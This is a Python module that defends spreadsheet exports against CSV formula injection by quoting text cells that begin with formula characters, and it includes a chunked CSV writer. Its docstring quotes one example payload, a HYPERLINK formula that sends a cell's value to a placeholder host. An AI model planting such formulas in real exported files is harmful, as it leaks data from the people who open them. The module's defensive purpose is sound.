"""Text cells safe to open in a spreadsheet: answers that would run as formulas are written as text.

Answers come from tablets, and labels from forms made by others. Excel, LibreOffice and Google Sheets evaluate a cell
that starts with `=`, `+`, `-` or `@` as a formula (tab and carriage return in front are skipped by some of them), so
an answer such as `=HYPERLINK("http://x/?"&A1, "open")` would run when a CSV or XLSX we wrote is opened. OWASP's rule
("CSV injection"): put a single quote in front of such a cell; spreadsheets then show it as text.

Only text cells are changed. Numbers are data, not formulas: a numeric column is never touched, and a text cell that
is one plain number (`-5`, `+7.5`, `-1e3`) is kept as it is, since a spreadsheet reads it as that number and nothing
runs. Parquet, .sav and .dta keep every value exactly; only files meant for spreadsheets go through here.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

# OWASP's list of characters that start a formula (tab and carriage return included).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Quoted in front of such a cell (OWASP); spreadsheets show the rest as text.
TEXT_PREFIX = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet cell: text starting a formula gets TEXT_PREFIX, everything else is unchanged.

    Parameters:
        value: any cell value; only `str` values are changed.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return TEXT_PREFIX + value
    return value


def safe_row(values: list[Any] | tuple[Any, ...]) -> list[Any]:
    """Every cell of a row through `safe_cell`."""
    return [safe_cell(v) for v in values]


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells are safe (see `safe_cell`); numeric, date and boolean columns are kept.

    Parameters:
        frame: the table to write as CSV; it is not changed.
    """
    changed: dict[int, pd.Series] = {}
    for position, (_, column) in enumerate(frame.items()):
        if not (pd.api.types.is_object_dtype(column.dtype) or pd.api.types.is_string_dtype(column.dtype)):
            continue
        try:
            starts = column.str.startswith(FORMULA_STARTS, na=False).to_numpy(dtype=bool)
        except AttributeError:  # an object column without any text (codes as Python ints)
            continue
        rows = np.flatnonzero(starts)
        if not len(rows):
            continue
        candidates = column.iloc[rows]
        rows = rows[~candidates.str.fullmatch(_PLAIN_NUMBER.pattern, na=False).to_numpy(dtype=bool)]
        if len(rows):
            fixed = column.copy()
            fixed.iloc[rows] = TEXT_PREFIX + column.iloc[rows].astype(str)
            changed[position] = fixed
    if not changed:
        return frame
    result = frame.copy()
    for position, column in changed.items():
        result.isetitem(position, column)
    return result


# Rows formatted and written at a time: bounds the Python objects held for a large table (a few hundred MB at
# 100,000 households) while keeping the per-chunk cost negligible.
CSV_ROWS_PER_CHUNK = 20_000


def _csv_cells(column: pd.Series) -> list[Any] | None:
    """The cells of one column for `csv.writer`, as pandas' `to_csv` writes them (missing values as ""), or None for
    a dtype left to pandas."""
    dtype = column.dtype
    if dtype == np.float64:
        values = column.to_numpy()
        cells: list[Any] = values.tolist()  # csv.writer writes a float as repr(), as numpy's str() does
        for row in np.flatnonzero(np.isnan(values)).tolist():
            cells[row] = ""
        return cells
    if isinstance(dtype, pd.Int64Dtype):
        missing = column.isna().to_numpy()
        cells = column.to_numpy(dtype="int64", na_value=0).tolist()
        for row in np.flatnonzero(missing).tolist():
            cells[row] = ""
        return cells
    if pd.api.types.is_object_dtype(dtype) or isinstance(dtype, pd.StringDtype):
        values = column.to_numpy(dtype=object, na_value="")
        missing = pd.isna(values)
        if missing.any():
            values[missing] = ""
        return values.tolist()
    return None


def write_csv(path: Path, frame: pd.DataFrame) -> None:
    """Write `frame` as CSV for spreadsheets: UTF-8 with BOM (so that Excel shows Cyrillic), text cells made safe
    (`safe_frame`), no index; the same bytes as pandas' `to_csv(path, index=False, encoding="utf-8-sig")`.

    Number and text columns go straight to `csv.writer` (pandas' writer formats every cell through several
    layers and took most of the export's time); other dtypes (dates, booleans) are left to pandas.

    Parameters:
        path: the file to write (the caller makes the write atomic).
        frame: the table; it is not changed.
    """
    safe = safe_frame(frame)
    if not len(safe.columns) or any(_csv_cells(safe.iloc[:0, i]) is None for i in range(len(safe.columns))):
        safe.to_csv(path, index=False, encoding="utf-8-sig")
        return
    with open(path, "w", encoding="utf-8-sig", newline="") as handle:  # noqa: PTH123 - a plain file handle
        writer = csv.writer(handle, lineterminator="\n")
        writer.writerow([str(name) for name in safe.columns])
        for start in range(0, len(safe), CSV_ROWS_PER_CHUNK):
            chunk = safe.iloc[start : start + CSV_ROWS_PER_CHUNK]
            columns = [_csv_cells(chunk.iloc[:, i]) for i in range(len(chunk.columns))]
            writer.writerows(zip(*columns, strict=True))  # type: ignore[arg-type]
